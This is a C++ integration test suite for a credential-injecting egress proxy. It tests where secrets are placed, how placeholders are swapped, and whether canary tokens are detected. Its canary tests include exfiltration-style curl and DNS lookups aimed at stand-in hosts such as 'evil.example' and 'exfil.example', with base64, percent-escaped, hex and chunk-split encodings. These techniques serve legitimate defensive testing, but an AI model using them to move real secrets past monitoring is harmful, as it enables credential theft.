// Where a credential goes and where it may not, end to end (issue 12): a
// real zerod, curl in a lab guest, echo upstreams that log what arrived.
//   - placement per rule: a header with a prefix, HTTP Basic, a query
//     parameter;
//   - placeholders: the guest's stand-in swapped for the credential only in
//     requests a rule naming its resource allowed (headers, query, JSON and
//     form bodies), refused (403, secret:misuse) anywhere else, in several
//     encodings and split across chunks;
//   - canaries: a planted fake credential in a header, the query, a body,
//     the SNI or a DNS name is refused and raises secret:canary and the
//     zn_secret_alarms_total metric.
// Every refusal has its positive control: the same request without the
// tripwire goes through.
#include <openssl/evp.h>

#include "broker/identity/jwt_verifier.h"
#include "integration/proxy_fixture.h"
#include "support/deflated.h"
#include "support/secret_encodings.h"

namespace zn::test {
namespace {

constexpr const char* kToken = "sk_live_placement_7d1e9c2b4a";
constexpr const char* kPassword = "pw-basic/secret+9 x";
constexpr const char* kUseCanary = "AKIAZNCANARY00001";
constexpr const char* kCanary2 = "ghp_zncanary_0002";

std::string placement_policy() {
  return std::string(R"({"policy":{"allow":[
      {"host":"api.stripe.com","paths":["/hdr/**"],"identity":"cap:stripe","inject":{"header":"X-Api-Key"}},
      {"host":"api.stripe.com","paths":["/tok/**"],"identity":"cap:stripe",
       "inject":{"header":"Authorization","prefix":"token "}},
      {"host":"api.stripe.com","paths":["/basic/**"],"identity":"cap:jira"},
      {"host":"api.stripe.com","paths":["/q/**"],"identity":"cap:stripe","inject":{"query":"key"}},
      {"host":"api.stripe.com","paths":["/open/**"]},
      {"host":"api.stripe.com","paths":["/jwt/**"],"identity":"jwt","inject":{"header":"X-Zn-Token","prefix":""}},
      {"host":"api.github.com","methods":["GET"],"paths":["/repos/**"]}]},
    "resources":{"stripe":{"kind":"token","token":")") +
         kToken + R"(","placeholder":"STRIPE_API_KEY"},
                 "jira":{"kind":"basic","user":"bot","password":")" +
         kPassword + R"("}},
    "canaries":[")" +
         kUseCanary + R"(",")" + kCanary2 + R"("]})";
}

std::string base64(const std::string& in) {
  std::string out(4 * ((in.size() + 2) / 3) + 1, '\0');
  const int n =
      EVP_EncodeBlock(reinterpret_cast<unsigned char*>(out.data()),
                      reinterpret_cast<const unsigned char*>(in.data()), static_cast<int>(in.size()));
  out.resize(static_cast<size_t>(n));
  return out;
}

class SecretUseTest : public ProxyTest {
 protected:
  void configure(json& config) override {
    ProxyTest::configure(config);
    // On the host's end of the link to the stand-in internet: where the lab's
    // upstreams fetch the keys of the tokens zerod mints for them.
    config["jwks_listen"] = "198.18.255.1:18089";
  }
  void SetUp() override {
    ProxyTest::SetUp();
    if (HasFatalFailure()) return;
    ASSERT_EQ(dig("api.github.com"), "198.18.0.10\n");
    ASSERT_EQ(dig("api.stripe.com"), "198.18.0.11\n");
    json r = call("session.update", {{"id", "user-1"}, {"policy", placement_policy()}});
    ASSERT_TRUE(r["ok"]) << r.dump();
    json shown = call("session.show", {{"id", "user-1"}})["result"];
    placeholder_ = shown["guest_env"].value("STRIPE_API_KEY", "");
    ASSERT_EQ(placeholder_.rfind("zn_ph_", 0), 0u) << shown.dump();
  }
  // The status code of one request (curl's -w), its body discarded.
  std::string status(const std::string& args) {
    return curl("-o /dev/null -w '%{http_code}' " + args).output;
  }
  // The last request the upstreams logged.
  json last_upstream_request() {
    const std::string log = upstream_log();
    const size_t end = log.find_last_not_of('\n');
    if (end == std::string::npos) return json::object();
    const size_t start = log.rfind('\n', end);
    return json::parse(log.substr(start == std::string::npos ? 0 : start + 1, end + 1 - (start + 1)));
  }
  static std::string header(const json& req, const std::string& name) {
    for (const auto& h : req["headers"])
      if (h[0].get<std::string>() == name) return h[1];
    return "<absent>";
  }
  std::string placeholder_;
};

TEST_F(SecretUseTest, EachRulePlacesTheCredentialWhereItSays) {
  // A header of the rule's choosing, the guest's own copy removed.
  ASSERT_EQ(status("-H 'X-Api-Key: guest-own' https://api.stripe.com/hdr/a"), "200");
  json req = last_upstream_request();
  EXPECT_EQ(header(req, "X-Api-Key"), kToken) << req.dump();
  EXPECT_EQ(req.dump().find("guest-own"), std::string::npos) << req.dump();
  // Authorization with another scheme.
  ASSERT_EQ(status("-H 'Authorization: Bearer guest-own' https://api.stripe.com/tok/a"), "200");
  req = last_upstream_request();
  EXPECT_EQ(header(req, "Authorization"), std::string("token ") + kToken) << req.dump();
  // HTTP Basic from the user/password pair.
  ASSERT_EQ(status("https://api.stripe.com/basic/a"), "200");
  req = last_upstream_request();
  EXPECT_EQ(header(req, "Authorization"), "Basic " + base64(std::string("bot:") + kPassword)) << req.dump();
  // A query parameter: the guest's own of that name (in any spelling) goes.
  ASSERT_EQ(status("'https://api.stripe.com/q/a?key=guest-own&a=1&k%65y=guest-two'"), "200");
  req = last_upstream_request();
  EXPECT_EQ(req["target"], std::string("/q/a?a=1&key=") + kToken) << req.dump();
  // The guest never got the credential back (the echo reflects headers).
  const std::string seen =
      curl("https://api.stripe.com/tok/b").output + curl("https://api.stripe.com/q/b").output;
  EXPECT_EQ(seen.find(kToken), std::string::npos) << seen;
}

TEST_F(SecretUseTest, APlaceholderIsSwappedOnlyForItsOwnRule) {
  const std::string ph = placeholder_;
  // Header, query, JSON body, form body: each arrives as the credential.
  ASSERT_EQ(status("-H 'X-Sdk-Key: Bearer " + ph + "' https://api.stripe.com/hdr/h"), "200");
  EXPECT_EQ(header(last_upstream_request(), "X-Sdk-Key"), std::string("Bearer ") + kToken);
  ASSERT_EQ(status("'https://api.stripe.com/hdr/q?api_key=" + ph + "&b=2'"), "200");
  EXPECT_EQ(last_upstream_request()["target"], std::string("/hdr/q?api_key=") + kToken + "&b=2");
  ASSERT_EQ(status("-H 'Content-Type: application/json' -d '{\"key\":\"" + ph +
                   "\",\"n\":1}' "
                   "https://api.stripe.com/hdr/j"),
            "200");
  EXPECT_EQ(last_upstream_request()["body"], std::string("{\"key\":\"") + kToken + "\",\"n\":1}");
  ASSERT_EQ(status("-d 'key=" + ph + "&n=1' https://api.stripe.com/hdr/f"), "200");
  EXPECT_EQ(last_upstream_request()["body"], std::string("key=") + kToken + "&n=1");
  // A chunked body with the placeholder split across chunks.
  const std::string body = "{\"k\":\"" + ph + "\"}";
  const std::string chunked =
      "POST /hdr/c HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Type: application/json\r\n"
      "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" +
      [&] {
        std::string out;
        for (size_t i = 0; i < body.size(); i += 5) {
          const std::string piece = body.substr(i, 5);
          char size[8];
          std::snprintf(size, sizeof size, "%zx", piece.size());
          out += std::string(size) + "\r\n" + piece + "\r\n";
        }
        return out + "0\r\n\r\n";
      }();
  EXPECT_NE(raw_tls("api.stripe.com", "198.18.0.11", chunked).find("200 OK"), std::string::npos);
  EXPECT_EQ(last_upstream_request()["body"], std::string("{\"k\":\"") + kToken + "\"}");
  const std::string upstream_before = upstream_log();

  // Anywhere else: refused before it leaves, in several encodings.
  EXPECT_EQ(status("-H 'X-Sdk-Key: " + ph + "' https://api.github.com/repos/a"), "403");
  EXPECT_EQ(status("'https://api.github.com/repos/a?k=" + ph + "'"), "403");
  EXPECT_EQ(status("-H 'X-Sdk-Key: " + base64(ph) + "' https://api.github.com/repos/a"), "403");
  EXPECT_EQ(status("-H 'Content-Type: text/plain' -d 'x" + ph + "' https://api.stripe.com/open/b"), "403");
  EXPECT_EQ(status("-d 'k=" + ph + "' https://api.stripe.com/open/b"), "403");  // same host, another rule
  // Split across chunks, to a host whose rule does not name it.
  std::string misuse = chunked;
  misuse.replace(misuse.find("/hdr/c"), 6, "/open/c");
  EXPECT_EQ(raw_tls("api.stripe.com", "198.18.0.11", misuse).find("200 OK"), std::string::npos);
  // A body past the bound, streamed: stopped before the placeholder goes.
  const fs::path big = dir_ / "big.body";
  std::ofstream(big) << std::string(300 * 1024, 'a') << ph << std::string(1000, 'b');
  EXPECT_EQ(status("--data-binary @" + big.string() + " https://api.stripe.com/open/big"), "403");
  const std::string upstream_after = upstream_log();
  EXPECT_EQ(upstream_after.substr(upstream_before.size()).find(ph), std::string::npos);
  EXPECT_EQ(upstream_after.substr(upstream_before.size()).find(base64(ph)), std::string::npos);

  const std::string misuses = audit_events("secret:misuse", {"\"body\""});
  EXPECT_NE(misuses.find("\"resource\":[\"stripe\"]"), std::string::npos) << misuses;
  for (const char* where : {"\"header\"", "\"query\"", "\"body\""})
    EXPECT_NE(misuses.find(where), std::string::npos) << where << "\n" << misuses;
  EXPECT_EQ(misuses.find(kToken), std::string::npos);
  // Positive control: the same requests without the placeholder pass.
  EXPECT_EQ(status("-H 'X-Sdk-Key: zn_ph_nothing' https://api.github.com/repos/a"), "200");
  EXPECT_EQ(status("-d 'k=plain' https://api.stripe.com/open/b"), "200");
}

// The upstream log keeps a body as Latin-1 text: its bytes again.
std::string latin1_bytes(const std::string& utf8) {
  std::string out;
  for (size_t i = 0; i < utf8.size(); ++i) {
    const auto c = static_cast<unsigned char>(utf8[i]);
    if (c < 0x80 || i + 1 == utf8.size()) {
      out.push_back(static_cast<char>(c));
    } else {
      out.push_back(static_cast<char>(((c & 0x1f) << 6) | (static_cast<unsigned char>(utf8[i + 1]) & 0x3f)));
      ++i;
    }
  }
  return out;
}

// A placeholder in a coded body (gzip, zlib or raw deflate, stacked) is
// swapped in its decoded bytes and the body coded again the way it came,
// in both protocols; to a rule that does not name it, refused coded as
// plain.
TEST_F(SecretUseTest, APlaceholderInACodedBodyIsSwappedAsInAPlainOne) {
  const std::string body = "{\"key\":\"" + placeholder_ + "\",\"n\":2}";
  const std::string want = std::string("{\"key\":\"") + kToken + "\",\"n\":2}";
  struct Coding {
    std::string name;
    int outer, inner;  // window bits; 0: no inner layer
  };
  int i = 0;
  for (const std::string version : {"--http1.1", "--http2"})
    for (const Coding& c : {Coding{"gzip", 31, 0}, Coding{"deflate", 15, 0}, Coding{"deflate", -15, 0},
                            Coding{"deflate, gzip", 31, 15}}) {
      const std::string what = version + " " + c.name + " " + std::to_string(c.outer);
      const std::string coded = deflated(c.inner ? deflated(body, c.inner) : body, c.outer);
      const fs::path f = dir_ / ("coded-" + std::to_string(i++));
      std::ofstream(f, std::ios::binary) << coded;
      ASSERT_EQ(status(version + " -H 'Content-Type: application/json' -H 'Content-Encoding: " + c.name +
                       "' --data-binary @" + f.string() + " https://api.stripe.com/hdr/coded"),
                "200")
          << what;
      const json req = last_upstream_request();
      EXPECT_EQ(header(req, "Content-Encoding") == "<absent>" ? header(req, "content-encoding")
                                                              : header(req, "Content-Encoding"),
                c.name)
          << what << req.dump();
      const std::string arrived = latin1_bytes(req["body"].get<std::string>());
      const std::string outer = inflated(arrived, c.outer);
      EXPECT_EQ(c.inner ? inflated(outer, c.inner) : outer, want) << what;
      EXPECT_EQ(arrived.find(placeholder_), std::string::npos) << what;
      // Elsewhere the same coded placeholder is refused, not passed coded.
      EXPECT_EQ(status(version + " -H 'Content-Type: application/json' -H 'Content-Encoding: " + c.name +
                       "' --data-binary @" + f.string() + " https://api.stripe.com/open/coded"),
                "403")
          << what;
    }
  // A body that is not JSON or a form is not rewritten (as plain): it goes
  // as it came, the placeholder in it, to the rule that names it.
  const fs::path text = dir_ / "coded-text";
  std::ofstream(text, std::ios::binary) << deflated("k " + placeholder_, 31);
  ASSERT_EQ(status("-H 'Content-Type: text/plain' -H 'Content-Encoding: gzip' --data-binary @" +
                   text.string() + " https://api.stripe.com/hdr/coded"),
            "200");
  EXPECT_EQ(inflated(latin1_bytes(last_upstream_request()["body"].get<std::string>()), 31),
            "k " + placeholder_);
}

TEST_F(SecretUseTest, ACanaryIsCaughtWhereverItLeaves) {
  const std::string c = kUseCanary;
  // Positive controls first: the same requests without the canary pass.
  ASSERT_EQ(status("-H 'X-Aws-Key: AKIAPLAINVALUE001' https://api.github.com/repos/a"), "200");
  ASSERT_EQ(status("-d 'k=plain' https://api.stripe.com/open/b"), "200");
  ASSERT_EQ(dig("api.github.com"), "198.18.0.10\n");

  EXPECT_EQ(status("-H 'X-Aws-Key: " + c + "' https://api.github.com/repos/a"), "403");
  EXPECT_EQ(status("'https://api.github.com/repos/a?id=" + c + "'"), "403");
  EXPECT_EQ(status("'https://api.github.com/repos/" + c + "'"), "403");
  EXPECT_EQ(status("-d '{\"aws\":\"" + c +
                   "\"}' -H 'Content-Type: application/json' https://api.stripe.com/open/b"),
            "403");
  // Encoded: base64 in a header, percent-encoded in the query, in a body to
  // a host the policy denies anyway (the alarm is raised all the same).
  EXPECT_EQ(
      status("-H 'X-Blob: " + base64(std::string("user:") + kCanary2) + "' https://api.github.com/repos/a"),
      "403");
  EXPECT_EQ(status("'https://api.github.com/repos/a?id=ghp%5Fzncanary%5F0002'"), "403");
  EXPECT_EQ(status("'https://api.github.com/repos/a?id=%41KIA%5ANCANARY0000%31'"),
            "403");  // any byte escaped
  EXPECT_EQ(status("-H 'X-Aws-Key: akiazncanary00001' https://api.github.com/repos/a"),
            "403");  // case folded
  // A body past the bound, streamed, the canary escaped byte by byte near its end.
  const fs::path big = dir_ / "big-canary.body";
  std::ofstream(big) << "k=" << std::string(300 * 1024, 'a') << "%41KIA%5ANCANARY0000%31&z=1";
  EXPECT_EQ(status("--data-binary @" + big.string() + " https://api.stripe.com/open/big"), "403");
  EXPECT_EQ(upstream_log().find("%41KIA"), std::string::npos);
  EXPECT_EQ(status("-H 'Content-Type: application/json' -d '{\"k\":\"\\u0041KIAZNCANARY00001\"}' "
                   "https://api.stripe.com/open/b"),
            "403");
  EXPECT_EQ(status("-H 'X-Aws-Key: " + c + "' https://api.github.com/nowhere"), "403");
  // SNI: the connection is reset before anything is answered.
  auto sni = guest("curl -s -m 5 -o /dev/null -w '%{http_code}' --cacert " + p("guest-trust.pem") +
                   " --resolve " + c + ".evil.example:443:198.18.0.13 https://" + c + ".evil.example/");
  EXPECT_EQ(sni.output, "000") << sni.output;
  // DNS: whole, split across labels and case-folded, and hex-encoded.
  EXPECT_EQ(dig(c + ".exfil.example"), "");
  EXPECT_EQ(dig("akiaz.ncanary00001.exfil.example"), "");
  std::string hex;
  for (unsigned char ch : std::string(kCanary2)) {
    char b[3];
    std::snprintf(b, sizeof b, "%02x", ch);
    hex += b;
  }
  EXPECT_EQ(dig(hex.substr(0, 20) + "." + hex.substr(20) + ".api.github.com"), "");

  const std::string alarms = audit_events("secret:canary", {"\"dns\""});
  for (const char* where : {"\"header\"", "\"query\"", "\"path\"", "\"body\"", "\"sni\"", "\"dns\""})
    EXPECT_NE(alarms.find(where), std::string::npos) << where << "\n" << alarms;
  EXPECT_GE(count(alarms, "secret:canary"), 10u) << alarms;
  auto m = run_in_netns(lab_->host_netns(), "curl -s -m 3 http://127.0.0.1:19464/metrics");
  EXPECT_EQ(m.output.find("zn_secret_alarms_total{event=\"secret:canary\"} 0\n"), std::string::npos)
      << m.output;
  EXPECT_NE(m.output.find("zn_secret_alarms_total{event=\"secret:canary\"} "), std::string::npos) << m.output;
}

// A minted token placed in a header of the rule's choosing verifies against
// the JWKS the upstream side fetches from zerod, for its request only.
TEST_F(SecretUseTest, AMintedTokenVerifiesWithTheJwksServedToUpstreams) {
  ASSERT_EQ(status("-X POST https://api.stripe.com/jwt/orders"), "200");
  const json req = last_upstream_request();
  const std::string token = header(req, "X-Zn-Token");
  ASSERT_EQ(token.rfind("eyJ", 0), 0u) << req.dump();
  EXPECT_EQ(header(req, "Authorization"), "<absent>");
  // Fetched as an upstream would, from the stand-in internet.
  auto fetched =
      run_in_netns(lab_->inet_netns(), "curl -s -m 3 http://198.18.255.1:18089/.well-known/jwks.json");
  ASSERT_EQ(fetched.exit_code, 0) << fetched.output;
  const json jwks = json::parse(fetched.output);
  EXPECT_EQ(jwks, call("identity.jwks")["result"]);
  const auto now = std::chrono::system_clock::now();
  EXPECT_TRUE(
      broker::verify_jwt(token, jwks, {"zeroness", "api.stripe.com", "POST", "/jwt/orders"}, now).ok());
  EXPECT_FALSE(
      broker::verify_jwt(token, jwks, {"zeroness", "api.stripe.com", "GET", "/jwt/orders"}, now).ok());
  EXPECT_FALSE(
      broker::verify_jwt(token, jwks, {"zeroness", "api.github.com", "POST", "/jwt/orders"}, now).ok());
  auto other = run_in_netns(lab_->inet_netns(),
                            "curl -s -o /dev/null -w '%{http_code}' -m 3 http://198.18.255.1:18089/keys");
  EXPECT_EQ(other.output, "404");
}

// What the guest was handed — a placeholder, capability handles — is the
// same after zerod restarts (the guest still holds it), and a handle goes
// with its capability.
TEST_F(SecretUseTest, PlaceholdersAndCapabilityHandlesOutliveARestart) {
  json doc = json::parse(placement_policy());
  doc["caps"] = {{"data", {{"kind", "kv"}, {"mode", "rw"}}}, {"jobs", {{"kind", "queue"}}}};
  ASSERT_TRUE(call("session.update", {{"id", "user-1"}, {"policy", doc.dump()}})["ok"]);
  const json env = call("session.show", {{"id", "user-1"}})["result"]["guest_env"];
  ASSERT_EQ(env.value("ZN_CAP_DATA", "").rfind("cap:", 0), 0u) << env.dump();
  ASSERT_EQ(env.value("ZN_CAP_JOBS", "").rfind("cap:", 0), 0u) << env.dump();
  EXPECT_NE(env["ZN_CAP_DATA"], env["ZN_CAP_JOBS"]);
  EXPECT_EQ(env["STRIPE_API_KEY"], placeholder_);
  const std::string kv =
      "https://cap.zeroness.internal/v1/kv/" + env["ZN_CAP_DATA"].get<std::string>() + "/k";
  ASSERT_EQ(status("-X PUT --data-binary kept '" + kv + "'"), "204");
  stop_zerod(SIGTERM);
  start_zerod();
  EXPECT_EQ(call("session.show", {{"id", "user-1"}})["result"]["guest_env"], env);
  // The same handle reaches the same value.
  EXPECT_EQ(curl("'" + kv + "'").output, "kept");
  // A capability removed takes its handle with it.
  doc["caps"].erase("jobs");
  ASSERT_TRUE(call("session.update", {{"id", "user-1"}, {"policy", doc.dump()}})["ok"]);
  const json after = call("session.show", {{"id", "user-1"}})["result"]["guest_env"];
  EXPECT_EQ(after["ZN_CAP_DATA"], env["ZN_CAP_DATA"]);
  EXPECT_FALSE(after.contains("ZN_CAP_JOBS")) << after.dump();
  const std::string jobs = "https://cap.zeroness.internal/v1/queue/" + env["ZN_CAP_JOBS"].get<std::string>();
  EXPECT_EQ(status("-X POST '" + jobs + "/receive'"), "404");
}

// After credentials were placed, swapped and reflected: none of them, raw,
// base64 or hex, in what the guest received, zerod's log, the audit store or
// the state directory (resources are sealed there).
TEST_F(SecretUseTest, NoCredentialRestsOutsideZerodsMemory) {
  std::string guest_saw;
  for (const std::string& args :
       {std::string("https://api.stripe.com/hdr/a"), std::string("https://api.stripe.com/tok/a"),
        std::string("https://api.stripe.com/basic/a"), std::string("https://api.stripe.com/q/a"),
        "-d 'k=" + placeholder_ + "' https://api.stripe.com/hdr/f",
        "-H 'X-K: " + placeholder_ + "' https://api.stripe.com/hdr/reflect/headers"})
    guest_saw += curl("-i " + args).output;
  ASSERT_NE(guest_saw.find("200 OK"), std::string::npos) << guest_saw;
  ASSERT_GE(count(upstream_log(), kToken), 5u) << upstream_log();  // it did go out, where it should
  audit_events("egress:", {"/hdr/reflect/headers"});
  std::string at_rest = slurp(dir_ / "zerod.log");
  for (const auto& f : fs::recursive_directory_iterator(dir_ / "state"))
    if (f.is_regular_file()) at_rest += slurp(f.path());
  for (const std::string& secret :
       {std::string(kToken), std::string(kPassword), std::string("bot:") + kPassword})
    for (const std::string& e : encodings_of(secret)) {
      EXPECT_EQ(guest_saw.find(e), std::string::npos) << e;
      EXPECT_EQ(at_rest.find(e), std::string::npos) << e;
    }
  // Positive control: the placeholder is the guest's to know, and is in the state file.
  EXPECT_NE(at_rest.find(placeholder_), std::string::npos);
}

}  // namespace
}  // namespace zn::test
